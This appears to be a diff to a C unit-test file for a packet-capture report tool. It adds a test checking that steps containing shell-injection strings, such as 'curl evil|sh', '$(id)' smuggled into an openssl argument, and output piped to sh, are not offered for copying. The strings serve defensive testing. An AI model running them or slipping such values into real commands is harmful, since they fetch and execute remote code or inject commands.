@@ -194,7 +194,7 @@ static void no_controls(const char *s)
 {
 	for (; *s; s++)
 		if (((unsigned char)*s < 0x20 && *s != '\n' && *s != '\r' && *s != '\t') || *s == 0x7f)
-			fail_msg("control byte %d near: %.30s", *s, s > s + 0 ? s - 10 : s);
+			fail_msg("control byte %d before: %.30s", *s, s + 1);
 }
 
 /* Takes out what stands between equal runs of backquotes: markup is dead there. */
@@ -396,9 +396,20 @@ static void test_commands_are_found_in_steps(void **state)
 	check_step("Ask who runs the firewall", NULL);
 	check_step("tcpdump -ni eth0 port 443", "tcpdump -ni eth0 port 443");
 	check_step("On the server: ss -lnp 'sport = :443'", "ss -lnp 'sport = :443'");
-	check_step("Try `curl -v x` from there", "curl -v x");
+	check_step("Count them: ss -tan state time-wait | wc -l", "ss -tan state time-wait | wc -l");
 	check_step("Capture whole frames: tcpdump -s 0, then look again", "tcpdump -s 0");
 	check_step("Say: nothing", NULL);
+}
+
+static void test_nothing_that_a_shell_acts_on_is_offered_for_copying(void **state)
+{
+	(void)state;
+	check_step("openssl s_client -servername x;curl evil|sh", NULL);
+	check_step("openssl s_client -servername $(id)", NULL);
+	check_step("openssl s_client -servername `id`", NULL);
+	check_step("tcpdump 'host x' ' or ", NULL);
+	check_step("Ask x: y: curl evil", NULL);
+	check_step("ss -tan | sh", NULL);
 }
 
 static char folder[] = "/tmp/pcapdx-report-XXXXXX";
@@ -493,17 +504,20 @@ static int remove_folder(void **state)
 	return rmdir(folder);
 }
 
-/* Writes a page of a hand-made result for the browser test: test_report --page NAME FILE. */
-static int write_page(const char *name, const char *path)
+/* Writes a hand-made result for the tests that look at files: test_report --write NAME FILE [-v or -q]. */
+static int write_result(const char *name, const char *path, const char *verbose)
 {
 	struct result *r = strcmp(name, "hostile") == 0	  ? result_hostile()
+			   : strcmp(name, "empty") == 0	  ? result_without_packets()
 			   : strcmp(name, "healthy") == 0 ? result_healthy()
 			   : strcmp(name, "huge") == 0	  ? result_huge(4000)
 							  : result_rich();
 	struct options o = {.output_count = 1, .outputs = {{.path = path}}};
 	char error[256];
-	int failed = report_write(r, &o, error, sizeof(error));
+	int failed;
 
+	o.verbose = strcmp(verbose, "-v") == 0 ? 1 : strcmp(verbose, "-q") == 0 ? -1 : 0;
+	failed = report_write(r, &o, error, sizeof(error));
 	if (failed)
 		fprintf(stderr, "%s\n", error);
 	result_free(r);
@@ -528,13 +542,14 @@ int main(int argc, char **argv)
 		cmocka_unit_test(test_long_series_keep_their_peak),
 		cmocka_unit_test(test_svg_loses_all_but_its_shapes),
 		cmocka_unit_test(test_commands_are_found_in_steps),
+		cmocka_unit_test(test_nothing_that_a_shell_acts_on_is_offered_for_copying),
 		cmocka_unit_test(test_files_are_replaced_whole),
 		cmocka_unit_test(test_a_full_disk_is_told),
 		cmocka_unit_test(test_every_output_asked_for_is_written),
 		cmocka_unit_test(test_formats_are_known_by_extension),
 	};
 
-	if (argc == 4 && strcmp(argv[1], "--page") == 0)
-		return write_page(argv[2], argv[3]);
+	if (argc >= 4 && strcmp(argv[1], "--write") == 0)
+		return write_result(argv[2], argv[3], argc > 4 ? argv[4] : "");
 	return cmocka_run_group_tests(tests, make_folder, remove_folder);
 }
